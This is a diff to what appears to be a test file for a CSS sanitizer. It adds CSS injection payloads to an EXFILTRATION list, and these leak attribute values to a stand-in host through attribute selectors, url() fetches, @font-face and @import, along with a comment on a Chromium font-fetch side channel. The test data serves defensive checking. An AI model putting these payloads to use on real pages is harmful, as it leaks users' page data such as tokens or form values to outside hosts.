@@ -229,6 +229,15 @@ EXFILTRATION = [
         for each in ("visibility:hidden", "filter:none", "border-style:none", "color-scheme:dark", "--x-color:1")
     ),
     *(f"@import '//e.example';§[x^=a]{{{each}}}" for each in ("animation-play-state:running", "font-weight:700")),
+    # Chromium, which fetches nothing out of sight, fetches a font for a letter that those before it lack.
+    *(
+        f"a{{{each}}}b{{c:url(//e.example)}}§[x^=a]{{margin-top:9999px}}"
+        for each in ("content-visibility:auto", "animation-timeline:view()")
+    ),
+    *(
+        f"@font-face{{font-family:f;src:url(//e.example)}}b{{font-family:g,f}}§[x^=a]{{{each}}}"
+        for each in ("text-emphasis:'x'", "text-transform:uppercase", "text-overflow:ellipsis", "-webkit-line-clamp:1")
+    ),
     "a{§--x:attr(value type(<custom-ident>));animation-name:var(--x)}b{c:url(//e.example)}",
     "§[x=a]{view-transition-name:t}::view-transition-old(t){c:url(//e.example)}",
 ]
@@ -255,7 +264,7 @@ NO_EXFILTRATION = [
     *("@container(width>5px){b{c:url(//e.example)}}", "[x^=a]{color:red}b{c:url(//e.example)}"),
     *(
         "[x]{b:url(//e.example)}",
-        "[x^=a]{margin-top:1px;border-color:red;position:fixed;flex:1}b{c:url(//e.example)}",
+        "[x^=a]{margin-top:1px;border-color:red;position:fixed;flex:1;text-align:left;line-height:1}b{c:url(//e.example)}",
         "[x^=a]{b:url(i.png)}",
         "[x^=a]{--y:1}b{c:var(--y)}",
     ),
